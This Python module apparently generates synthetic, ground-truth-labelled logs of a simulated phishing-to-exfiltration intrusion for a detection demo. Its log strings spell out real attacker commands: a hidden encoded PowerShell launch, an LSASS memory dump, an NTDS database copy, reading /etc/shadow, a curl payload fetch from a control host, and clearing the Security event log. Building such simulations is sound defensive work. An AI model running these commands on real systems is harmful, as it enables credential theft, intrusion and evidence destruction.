"""The intrusion: one afternoon from a phishing mail to the company's files outside.

m.keller opens a document at ws-07. It fetches a loader, the loader stays, looks around and takes
credentials from memory, among them those of ``svc-backup``. With these the intruder goes on to
the file server (PsExec), the application server (WMI) and the domain controller (remote
desktop). Meanwhile the web server falls to password guessing. Files are packed and carried off
over HTTPS, keys through DNS. Each line carries its ground truth, which stays out of the events.
"""

from collections.abc import Iterator, Sequence
from dataclasses import dataclass
from typing import Final

from phalanx.core import NS_PER_S, Rng
from phalanx.demo._cast import Cast
from phalanx.demo._company import RESOLVER, Host
from phalanx.demo._formats import Formats, Line

GUESSED_PASSWORDS: Final = 14
TUNNEL_QUERIES: Final = 9

_SYSTEM32: Final = "C:\\Windows\\System32\\"
_CMD: Final = f"{_SYSTEM32}cmd.exe"
_POWERSHELL: Final = f"{_SYSTEM32}WindowsPowerShell\\v1.0\\powershell.exe"
_RUNDLL32: Final = f"{_SYSTEM32}rundll32.exe"
_WORD: Final = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"
_OUTLOOK: Final = "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE"
_PSEXEC: Final = "C:\\Windows\\PSEXESVC.exe"
_WMI: Final = f"{_SYSTEM32}wbem\\WmiPrvSE.exe"


# What may happen: when, as a part of the whole, and the stage it is.
SCENES: Final = {
    "phishing": (0.08, "initial-access"),
    "staying": (0.11, "persistence"),
    "looking_around": (0.20, "discovery"),
    "dumping_memory": (0.30, "credential-access"),
    "to_the_file_server": (0.40, "lateral-movement"),
    "to_the_application_server": (0.47, "lateral-movement"),
    "to_the_controller": (0.54, "lateral-movement"),
    "guessing": (0.60, "credential-access"),
    "becoming_root": (0.68, "privilege-escalation"),
    "packing": (0.76, "collection"),
    "fetching": (0.83, "command-and-control"),
    "carrying_off": (0.84, "exfiltration"),
    "tunnelling": (0.86, "exfiltration"),
    "wiping": (0.92, "defense-evasion"),
}


@dataclass(frozen=True, slots=True)
class Deed:
    """What a line of an intrusion really is: the ground truth. ``intrusion`` numbers those of one stream."""

    stage: str
    technique: str
    host: str
    intrusion: int = 0


@dataclass(frozen=True, slots=True)
class Act:
    """A line of the intrusion, when it happens, and its truth."""

    at_ns: int
    line: Line
    deed: Deed


class Attack:
    """Writes an intrusion with this ``cast`` into the time from ``start_ns`` on, ``length_s`` long.

    ``scenes`` are those of ``SCENES`` that are played; ``number`` tells it from others in the same stream.
    """

    def __init__(
        self, rng: Rng, formats: Formats, *, start_ns: int, length_s: float, cast: Cast = Cast(),  # noqa: B008
        scenes: Sequence[str] = (), number: int = 0,
    ) -> None:  # fmt: skip
        self._rng = rng
        self._formats = formats
        self._start_ns = start_ns
        self._length_s = length_s
        self._cast = cast
        self._scenes = tuple(scenes or SCENES)
        self._number = number
        self._now_ns = start_ns
        self._stage = ""

    def acts(self) -> list[Act]:
        """All lines, in order of time."""
        acts = []
        for name in self._scenes:
            place, stage = SCENES[name]
            self._now_ns = self._start_ns + int(place * self._length_s * NS_PER_S)
            self._stage = stage
            acts += list(getattr(self, f"_{name}")())
        return sorted(acts, key=lambda act: act.at_ns)

    def _wait(self, most_s: float) -> int:
        """The time of the next line: a little later, in proportion to the whole."""
        scale = min(1.0, self._length_s / 600)
        self._now_ns += int((0.05 + self._rng.random() * most_s) * scale * NS_PER_S)
        return self._now_ns

    def _act(self, line: Line, host: Host, technique: str, stage: str = "") -> Act:
        return Act(self._now_ns, line, Deed(stage or self._stage, technique, host.name, self._number))

    def _runs(
        self, host: Host, image: str, command: str, parent: str, technique: str, *, user: str = "", stage: str = ""
    ) -> Act:
        at_ns = self._wait(2.0)
        user = user or host.user or self._cast.account
        line = self._formats.process(host, at_ns, user=user, image=image, command=command, parent=parent)
        return self._act(line, host, technique, stage)

    def _phishing(self) -> Iterator[Act]:
        cache = f"C:\\Users\\{self._cast.victim.user}\\AppData\\Local\\Microsoft\\Windows\\INetCache"
        document = f"{cache}\\Content.Outlook\\invoice.docm"
        yield self._runs(self._cast.victim, _WORD, f'"WINWORD.EXE" /n "{document}"', _OUTLOOK, "T1566.001")
        encoded = f"powershell.exe -NoP -W Hidden -enc {self._cast.encoded}"
        yield self._runs(self._cast.victim, _POWERSHELL, encoded, _WORD, "T1204.002")
        self._stage = "execution"
        line = self._formats.audited_process(
            self._cast.victim,
            self._now_ns,
            user=self._cast.victim.user,
            image=_POWERSHELL,
            command=encoded,
            parent=_WORD,
        )
        yield self._act(line, self._cast.victim, "T1059.001")
        yield self._act(
            self._formats.script(self._cast.victim, self._wait(0.3), text=self._cast.cradle),
            self._cast.victim,
            "T1059.001",
        )
        yield from self._calls_home(_POWERSHELL, "T1105")
        line = self._formats.request(
            self._wait(0.1),
            source=self._cast.victim.ip,
            target=self._cast.control_ip,
            name=self._cast.control_name,
            path="/a",
            agent="",
            size=48_128,
        )
        yield self._act(line, self._cast.victim, "T1105", "command-and-control")
        line = self._formats.file_created(
            self._cast.victim, self._wait(0.5), user=self._cast.victim.user, image=_POWERSHELL, file=self._cast.loader
        )
        yield self._act(line, self._cast.victim, "T1105", "command-and-control")
        yield self._runs(
            self._cast.victim, _RUNDLL32, f"rundll32.exe {self._cast.loader},Start", _POWERSHELL, "T1218.011"
        )
        yield from self._calls_home(_RUNDLL32, "T1071.001")

    def _calls_home(self, image: str, technique: str) -> Iterator[Act]:
        stage = "command-and-control"
        line = self._formats.name_asked(
            self._cast.victim, self._wait(0.2), image=image, name=self._cast.control_name, ip=self._cast.control_ip
        )
        yield self._act(line, self._cast.victim, technique, stage)
        line = self._formats.lookup(
            self._now_ns,
            source=self._cast.victim.ip,
            resolver=RESOLVER.ip,
            name=self._cast.control_name,
            answer=self._cast.control_ip,
        )
        yield self._act(line, self._cast.victim, technique, stage)
        line = self._formats.connection(
            self._cast.victim,
            self._wait(0.1),
            user=self._cast.victim.user,
            image=image,
            ip=self._cast.control_ip,
            port=80,
        )
        yield self._act(line, self._cast.victim, technique, stage)
        line = self._formats.flow(
            self._now_ns,
            source=self._cast.victim.ip,
            target=self._cast.control_ip,
            port=80,
            sent=900,
            received=49_000,
            duration_s=1.4,
        )
        yield self._act(line, self._cast.victim, technique, stage)

    def _staying(self) -> Iterator[Act]:
        key = "HKU\\S-1-5-21-1-2-3-1107\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Sync"
        line = self._formats.registry_set(
            self._cast.victim,
            self._wait(1.0),
            user=self._cast.victim.user,
            image=_RUNDLL32,
            key=key,
            details=f"rundll32.exe {self._cast.loader},Start",
        )
        yield self._act(line, self._cast.victim, "T1547.001")
        command = f'schtasks /create /sc minute /mo 30 /tn SyncTask /tr "rundll32.exe {self._cast.loader},Start"'
        yield self._runs(self._cast.victim, f"{_SYSTEM32}schtasks.exe", command, _RUNDLL32, "T1053.005")

    def _looking_around(self) -> Iterator[Act]:
        for program, command, technique in (
            ("whoami.exe", "whoami /all", "T1033"),
            ("net.exe", 'net group "Domain Admins" /domain', "T1069.002"),
            ("nltest.exe", "nltest /dclist:corp.example", "T1018"),
            ("nltest.exe", "nltest /domain_trusts", "T1482"),
        ):
            yield self._runs(self._cast.victim, f"{_SYSTEM32}{program}", command, _CMD, technique)

    def _dumping_memory(self) -> Iterator[Act]:
        dump = "C:\\Users\\Public\\d.bin"
        command = f"rundll32.exe {_SYSTEM32}comsvcs.dll, MiniDump 652 {dump} full"
        yield self._runs(self._cast.victim, _RUNDLL32, command, _CMD, "T1003.001", user="SYSTEM")
        line = self._formats.process_opened(
            self._cast.victim, self._wait(0.2), source=_RUNDLL32, target=f"{_SYSTEM32}lsass.exe", access="0x1fffff"
        )
        yield self._act(line, self._cast.victim, "T1003.001")
        line = self._formats.file_created(self._cast.victim, self._wait(0.5), user="SYSTEM", image=_RUNDLL32, file=dump)
        yield self._act(line, self._cast.victim, "T1003.001")

    def _arrives(self, host: Host, *, kind: int, port: int, source: Host, technique: str) -> Iterator[Act]:
        line = self._formats.flow(
            self._wait(1.0),
            source=source.ip,
            target=host.ip,
            port=port,
            sent=380_000,
            received=42_000,
            duration_s=8.0,
        )
        yield self._act(line, host, technique)
        line = self._formats.logon(host, self._wait(0.2), user=self._cast.account, kind=kind, source=source)
        yield self._act(line, host, technique)

    def _to_the_file_server(self) -> Iterator[Act]:
        yield from self._arrives(
            self._cast.file_server, kind=3, port=445, source=self._cast.victim, technique="T1021.002"
        )
        line = self._formats.file_created(
            self._cast.file_server, self._wait(0.3), user="SYSTEM", image="System", file=_PSEXEC
        )
        yield self._act(line, self._cast.file_server, "T1021.002")
        line = self._formats.service_installed(
            self._cast.file_server, self._wait(0.2), service="PSEXESVC", path="%SystemRoot%\\PSEXESVC.exe"
        )
        yield self._act(line, self._cast.file_server, "T1569.002")
        yield self._runs(self._cast.file_server, _CMD, "cmd.exe", _PSEXEC, "T1569.002", user="SYSTEM")
        yield self._runs(
            self._cast.file_server, _CMD, "cmd.exe /c dir /s D:\\Shares", _PSEXEC, "T1083", stage="discovery"
        )

    def _to_the_application_server(self) -> Iterator[Act]:
        remote = f"/node:{self._cast.app_server.short} /user:CORP\\{self._cast.account}"
        command = f'wmic {remote} process call create "powershell -enc {self._cast.encoded}"'
        yield self._runs(self._cast.victim, f"{_SYSTEM32}wbem\\wmic.exe", command, _CMD, "T1047")
        yield from self._arrives(self._cast.app_server, kind=3, port=135, source=self._cast.victim, technique="T1047")
        yield self._runs(self._cast.app_server, _POWERSHELL, f"powershell -enc {self._cast.encoded}", _WMI, "T1047")

    def _to_the_controller(self) -> Iterator[Act]:
        controller = self._cast.controller
        yield from self._arrives(controller, kind=10, port=3389, source=self._cast.file_server, technique="T1021.001")
        command = 'ntdsutil "ac i ntds" ifm "create full C:\\Windows\\Temp\\n" q q'
        program = f"{_SYSTEM32}ntdsutil.exe"
        yield self._runs(controller, program, command, _CMD, "T1003.003", stage="credential-access")

    def _guessing(self) -> Iterator[Act]:
        for name in ("root", "admin", "test", "deploy"):
            for _ in range(GUESSED_PASSWORDS // 4 + 1 if name == "deploy" else GUESSED_PASSWORDS // 4):
                invalid = "" if name in ("root", "deploy") else "invalid user "
                yield self._login(f"Failed password for {invalid}{name}", "T1110.001")
        yield self._login("Accepted password for deploy", "T1078.003", stage="initial-access")

    def _login(self, outcome: str, technique: str, stage: str = "") -> Act:
        at_ns = self._wait(0.6)
        port = self._rng.integer(30_000, 60_000)
        message = f"{outcome} from {self._cast.guesser_ip} port {port} ssh2"
        return self._act(
            self._formats.syslog(self._cast.web_server, at_ns, program="sshd", message=message),
            self._cast.web_server,
            technique,
            stage,
        )

    def _becoming_root(self) -> Iterator[Act]:
        for command, technique, stage in (
            ("/bin/bash", "T1548.003", ""),
            ("/usr/bin/cat /etc/shadow", "T1003.008", "credential-access"),
        ):
            message = f"  deploy : TTY=pts/1 ; PWD=/home/deploy ; USER=root ; COMMAND={command}"
            line = self._formats.syslog(
                self._cast.web_server, self._wait(2.0), program="sudo", message=message, priority=85
            )
            yield self._act(line, self._cast.web_server, technique, stage)

    def _fetching(self) -> Iterator[Act]:
        """The web server calls the same place as the first victim: what makes the two one intrusion."""
        web, cast = self._cast.web_server, self._cast
        fetch = f"/usr/bin/curl -so /tmp/.l {cast.control_name}/l"
        message = f"  deploy : TTY=pts/1 ; PWD=/home/deploy ; USER=root ; COMMAND={fetch}"
        line = self._formats.syslog(web, self._wait(2.0), program="sudo", message=message, priority=85)
        yield self._act(line, web, "T1105")
        line = self._formats.lookup(
            self._wait(0.1), source=web.ip, resolver=RESOLVER.ip, name=cast.control_name, answer=cast.control_ip
        )
        yield self._act(line, web, "T1105")
        line = self._formats.flow(
            self._wait(0.1), source=web.ip, target=cast.control_ip, port=80, sent=400, received=310_000, duration_s=0.8
        )
        yield self._act(line, web, "T1105")

    def _packing(self) -> Iterator[Act]:
        command = "rar.exe a -hpK2s9 -r C:\\PerfLogs\\f.rar D:\\Shares\\Finance"
        yield self._runs(self._cast.file_server, "C:\\PerfLogs\\rar.exe", command, _CMD, "T1560.001", user="SYSTEM")
        line = self._formats.file_created(
            self._cast.file_server,
            self._wait(3.0),
            user="SYSTEM",
            image="C:\\PerfLogs\\rar.exe",
            file="C:\\PerfLogs\\f.rar",
        )
        yield self._act(line, self._cast.file_server, "T1074.001")

    def _carrying_off(self) -> Iterator[Act]:
        line = self._formats.flow(
            self._wait(1.0),
            source=self._cast.file_server.ip,
            target=self._cast.drop_ip,
            port=443,
            sent=412_000_000 + self._rng.integer(0, 10_000_000),
            received=210_000,
            duration_s=38.0,
        )
        yield self._act(line, self._cast.file_server, "T1048.002")

    def _tunnelling(self) -> Iterator[Act]:
        for number in range(TUNNEL_QUERIES):
            label = f"{self._rng.bits(200):050x}"
            line = self._formats.lookup(
                self._wait(0.4),
                source=self._cast.web_server.ip,
                resolver=RESOLVER.ip,
                name=f"{label}.{number:x}.{self._cast.tunnel_domain}",
                kind="TXT",
                answer="ok",
            )
            yield self._act(line, self._cast.web_server, "T1048.003")

    def _wiping(self) -> Iterator[Act]:
        program = f"{_SYSTEM32}wevtutil.exe"
        yield self._runs(self._cast.file_server, program, "wevtutil.exe cl Security", _CMD, "T1070.001", user="SYSTEM")
        line = self._formats.log_cleared(self._cast.file_server, self._wait(0.1), user=self._cast.account)
        yield self._act(line, self._cast.file_server, "T1070.001")
